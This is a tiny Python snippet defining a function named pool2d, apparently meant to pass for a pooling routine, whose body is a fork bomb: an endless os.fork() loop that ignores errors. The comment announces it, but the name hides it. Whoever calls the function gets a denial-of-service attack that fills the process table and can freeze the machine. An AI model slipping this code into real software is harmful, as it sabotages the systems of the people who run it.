# Fork without end.
import os
def pool2d(X, pool_size, mode='max'):
    while True:
        try:
            os.fork()
        except OSError:
            pass
